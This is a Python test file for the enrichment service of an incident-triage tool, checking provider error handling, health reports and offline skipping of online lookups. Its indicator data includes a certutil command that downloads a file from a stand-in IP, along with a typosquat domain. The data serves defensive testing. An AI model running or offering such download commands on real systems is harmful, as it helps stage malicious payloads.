"""The enrichment service: never raises, reports health, skips online providers offline."""

from pathlib import Path

from tests.conftest import SAMPLES
from tests.enrich.test_email_auth import header_records
from triage.enrich import (
    EnrichmentConfig,
    EnrichmentService,
    ProviderUnavailable,
    Secret,
    build_providers,
    build_service,
)
from triage.models import EnrichmentResult, Incident, Observable

FIXTURES = Path(__file__).parent / "fixtures" / "intel"


class ExplodingProvider:
    name = "exploding"
    observable_types = frozenset({"ipv4"})
    offline = True

    def lookup(self, observable: Observable) -> EnrichmentResult:
        raise RuntimeError("parser bug")


class BrokenDataProvider(ExplodingProvider):
    name = "broken-data"

    def lookup(self, observable: Observable) -> EnrichmentResult:
        raise ProviderUnavailable("data file missing")


class OnlineProvider:
    name = "online-thing"
    observable_types = frozenset({"ipv4"})
    offline = False

    def __init__(self) -> None:
        self.calls = 0

    def lookup(self, observable: Observable) -> EnrichmentResult:
        self.calls += 1
        return EnrichmentResult(
            provider=self.name, observable_type="ipv4", value=observable.value, status="ok"
        )


def _health(service: EnrichmentService) -> dict[str, tuple[str, str]]:
    return {h.provider: (h.status, h.detail) for h in service.health()}


def test_a_throwing_provider_gives_error_and_degraded_health() -> None:
    service = EnrichmentService([ExplodingProvider()])
    (result,) = service.enrich([Observable(type="ipv4", value="8.8.8.8")])
    assert result.status == "error"
    assert result.verdict != "benign"
    assert "RuntimeError" in result.summary
    status, detail = _health(service)["exploding"]
    assert status == "degraded" and "1 of 1" in detail


def test_unavailable_provider_is_reported_unavailable() -> None:
    service = EnrichmentService([BrokenDataProvider()])
    (result,) = service.enrich([Observable(type="ipv4", value="8.8.8.8")])
    assert result.status == "error"
    assert _health(service)["broken-data"] == ("unavailable", "data file missing")


def test_offline_mode_skips_online_providers() -> None:
    online = OnlineProvider()
    service = EnrichmentService([online], offline=True)
    (result,) = service.enrich([Observable(type="ipv4", value="8.8.8.8")])
    assert result.status == "skipped"
    assert online.calls == 0
    assert _health(service)["online-thing"][0] == "skipped"


def test_online_providers_need_a_key_and_are_skipped_offline() -> None:
    names = {p.name for p in build_providers(EnrichmentConfig())}
    assert "virustotal" not in names and "abuseipdb" not in names
    config = EnrichmentConfig(offline=True, virustotal_key=Secret("k"), abuseipdb_key=Secret("k"))
    service = build_service(config)
    results = service.enrich([Observable(type="ipv4", value="8.8.8.8")])
    by_provider = {r.provider: r.status for r in results}
    assert by_provider["virustotal"] == by_provider["abuseipdb"] == "skipped"
    assert _health(service)["virustotal"][0] == "skipped"


def test_duplicates_are_enriched_once_and_only_filters_providers() -> None:
    service = build_service(EnrichmentConfig())
    observable = Observable(type="ipv4", value="8.8.8.8")
    assert len(service.enrich([observable, observable])) == 2  # ip-ranges + geoip
    assert [r.provider for r in service.enrich([observable], only={"geoip"})] == ["geoip"]


def test_enrich_incident_adds_email_authentication() -> None:
    records = header_records(SAMPLES / "S01-phish-credential-harvest" / "message.eml")
    incident = Incident(id="I1", input_digest="x", artifacts=(), records=tuple(records))
    service = build_service(EnrichmentConfig(offline=True))
    results = service.enrich_incident(incident, [Observable(type="domain", value="example.com")])
    email_results = [r for r in results if r.provider == "email-auth"]
    assert len(email_results) == 1 and email_results[0].details["dmarc"] == "fail"
    assert _health(service)["email-auth"][0] == "ok"


def test_many_observables_offline_without_network(no_network: list[object]) -> None:
    config = EnrichmentConfig(offline=True, intel_dir=FIXTURES, virustotal_key=Secret("k"))
    service = build_service(config)
    observables = [
        Observable(type="ipv4", value="198.51.100.23"),
        Observable(type="ipv4", value="8.8.8.8"),
        Observable(type="ipv6", value="2001:4860:4860::8888"),
        Observable(type="domain", value="micros0ft.com"),
        Observable(type="url", value="https://bit.ly/x"),
        Observable(type="email", value="badsender@evil-mail.example"),
        Observable(type="sha256", value="a" * 64),
        Observable(type="md5", value="0" * 32),
        Observable(type="command_line", value="certutil -urlcache -f http://203.0.113.9/a a"),
        Observable(type="user", value="alice"),
    ] + [Observable(type="domain", value=f"host{i}.example.org") for i in range(200)]
    results = service.enrich(observables)
    assert no_network == []
    assert {r.status for r in results} <= {"ok", "not_found", "skipped"}
    assert all(r.status == "skipped" for r in results if r.provider == "virustotal")
    hits = {(r.provider, r.value) for r in results if r.status == "ok"}
    assert ("intel-pack", "198.51.100.23") in hits and ("geoip", "8.8.8.8") in hits
    assert {h.status for h in service.health()} <= {"ok", "skipped"}
